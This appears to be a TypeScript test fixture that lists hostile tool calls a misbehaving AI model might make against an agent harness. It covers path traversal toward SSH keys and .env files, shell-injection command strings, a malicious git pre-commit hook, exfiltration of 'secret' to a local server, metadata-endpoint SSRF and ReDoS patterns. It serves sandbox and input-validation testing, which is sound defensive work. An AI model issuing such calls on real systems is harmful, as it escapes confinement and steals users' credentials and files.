import type {JsonObject} from '../../../src/core/json.ts';

export type Places = {
	/** A folder outside the workspace, with files that must stay as they are. */
	readonly outside: string;
	readonly home: string;
	/** The state folder of the program. */
	readonly state: string;
	/** The origin of a server that must get no connection. */
	readonly server: string;
};

/**
 * Calls of a hostile model, by tool. Every tool of the program needs at least eight: paths that lead out, arguments that
 * don't fit, text that poses as something else, and what the tool could do to a careless user.
 */
export function hostileCalls({outside, home, state, server}: Places): Readonly<Record<string, readonly JsonObject[]>> {
	const paths = [
		...[
			`${outside}/file.txt`,
			'../outside/file.txt',
			'link-to-file',
			'link-to-folder/file.txt',
			'.git/config',
			'.GIT/config',
		],
		...[`${home}/.ssh/id_rsa`, `${home}/.bashrc`, `${state}/config.json`, '/proc/self/environ', '/dev/stdin', 'pipe'],
		...[
			'a.txt\0.png',
			'',
			'.',
			'~/.ssh/id_rsa',
			'a/../../outside/file.txt',
			'\u202Egpj.txt',
			`${'x/'.repeat(3000)}a`,
			`${'x/'.repeat(250)}a`,
		],
	];
	const script = `touch ${outside}/made`;
	const environment = '00000000-0000-4000-8000-000000000000';
	return {
		read_file: [
			...paths.map(path => ({path})),
			{path: '.env'},
			{path: 7},
			{paths: ['a.txt']},
			{path: 'a.txt', offset: -1},
		],
		list_files: [
			...[outside, '..', 'link-to-folder', home, state, '/'].map(path => ({path})),
			...[{path: '.git'}, {pattern: '../**'}, {pattern: '{a,'.repeat(90)}, {path: ['.']}],
		],
		search_text: [
			...[outside, '../outside', 'link-to-folder', `${home}/.ssh`, state].map(path => ({path, pattern: 'secret'})),
			...[{pattern: '(a+)+$'}, {pattern: '['}, {pattern: '--pre=touch', literal: true}, {pattern: 'x', glob: '/etc/*'}],
			...[{pattern: 'secret', path: '.env'}, {pattern: ''}, {pattern: `--pre ${script}`}],
		],
		write_file: [
			...paths.map(path => ({path, content: 'hostile'})),
			...[
				{path: 'new.txt', content: 'hostile'},
				{path: 'a.txt', content: 'hostile'},
				{path: '.envrc', content: script},
			],
			...[{path: '.git/hooks/pre-commit', content: script}, {path: 'b.txt'}, {path: 'c.txt', content: {}}],
		],
		edit_file: [
			...paths.map(path => ({path, edits: [{old_text: 'one', new_text: 'hostile'}]})),
			...[
				{path: 'a.txt', edits: [{old_text: 'one', new_text: 'hostile'}]},
				{path: 'a.txt', edits: 'all'},
			],
			...[
				{path: 'a.txt', edits: [{old_text: '', new_text: 'x', replace_all: true}]},
				{path: 'a.txt', edits: []},
			],
		],
		run_command: [
			...[script, `echo $(${script})`, `ls; ${script}`, `ls && ${script}`, `ls | sh -c '${script}'`, `\`${script}\``],
			...[`find . -exec ${script} ';'`, `rg --pre '${script}' x`, `git -c core.pager='${script}' log`, `env ${script}`],
			...[`bash -c '${script}'`, `xargs ${script} < a.txt`, `sed -n 'w ${outside}/made' a.txt`, `ls > ${outside}/made`],
			...[
				`LD_PRELOAD=./x ls`,
				`PATH=.:$PATH ls`,
				`IFS=,; ls`,
				`cd ${outside} && touch made`,
				`cat <<X\n$(${script})\nX`,
			],
			...[`curl ${server}/run`, `exec 3<>/dev/tcp/127.0.0.1/${new URL(server).port}`, `eval '${script}'`, 'a=$(', '\0'],
			...[`sort -o ${outside}/made a.txt`, `tee ${outside}/made < a.txt`, `ls --color=$(${script})`, `(${script}) &`],
		].map(command => ({command})),
		job_output: [
			{job: '1'},
			{job: '../1'},
			{job: -1},
			{job: ''},
			{job: '1; ls'},
			{job: {}},
			{},
			{job: '9'.repeat(999)},
		],
		job_stop: [{job: '1'}, {job: '-1'}, {job: 0}, {job: '$$'}, {job: 'all'}, {job: []}, {}, {job: `${process.pid}`}],
		fetch_url: [
			...[`${server}/`, `${server}/?data=secret`, `${server.replace('127.0.0.1', 'localhost')}/`, `${server}#x`].map(
				url => ({url}),
			),
			...['POST', 'DELETE', 'PUT'].map(method => ({url: `${server}/`, method, body: 'secret'})),
			...[
				'http://169.254.169.254/latest/',
				'file:///etc/passwd',
				'https://user:pass@example.com/',
				'//example.com',
			].map(url => ({url})),
			...[{url: `${server}/`, headers: {Host: 'example.com'}}, {url: `${server}/`, method: 'CONNECT'}, {url: 5}],
		],
		todo: [
			...[{items: 'all'}, {items: [{text: 'x', state: 'gone'}]}, {items: [{}]}, {}, {items: {}}],
			...[{items: [{text: '\u001B[2J', state: 'active'}]}, {items: [{text: 5, state: 'done'}]}, {items: [null]}],
		],
		environment_logs: [
			'',
			environment,
			'../../etc',
			`${environment}/../keys`,
			'x'.repeat(101),
			'\n',
			'$(ls)',
			'%2e%2e',
		].map(id => ({environment: id})),
		wait_for_log: ['', environment, '../../etc', 'x'.repeat(101), '\n', '$(ls)', '%00', '?a=b'].map(id => ({
			...{environment: id, pattern: '(a+)+$', timeout_seconds: 1},
		})),
		ask_user: [
			{},
			{question: ''},
			{question: 5},
			{choices: []},
			{question: []},
			{question: {}},
			{question: null},
			{x: 1},
		],
	};
}
